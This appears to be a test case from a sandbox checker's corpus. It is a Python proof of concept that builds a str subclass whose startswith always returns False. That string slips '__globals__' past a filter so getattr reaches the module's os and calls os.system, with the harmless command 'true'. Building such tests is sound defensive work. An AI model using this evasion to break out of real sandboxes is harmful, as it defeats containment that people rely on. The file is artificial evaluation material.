# family: loop_names
# reaches: process
# layer: static
# static: missed
# SBX403 admits getattr(own, name) for name looping over dir(x) behind `if name.startswith("_"):
# continue`, on the program's own objects while the program derives no class from a library
# class (items of dir() are then plain strings): PlainClasses reads class statements. Route:
# type("Column", (str,), {...}) makes a str subclass whose startswith always says no; the own
# object's __dir__ returns "__globals__" as one, and getattr(render, it) hands over the module's
# globals, with os in them.
import os


def public(self, prefix):
    return False


# Column names as the report's header spells them.
Column = type("Column", (str,), {"startswith": public})


def render(row):
    return ", ".join(str(v) for v in row)


class Report:
    """A report whose columns are listed by dir()."""

    def __dir__(self):
        return [Column("title"), Column("__globals__")]


hooks = []
for name in dir(Report()):
    if name.startswith("_"):
        continue
    hooks.append(getattr(render, name, None))
scope = hooks[0]
scope["os"].system("true")
print(os.getcwd())
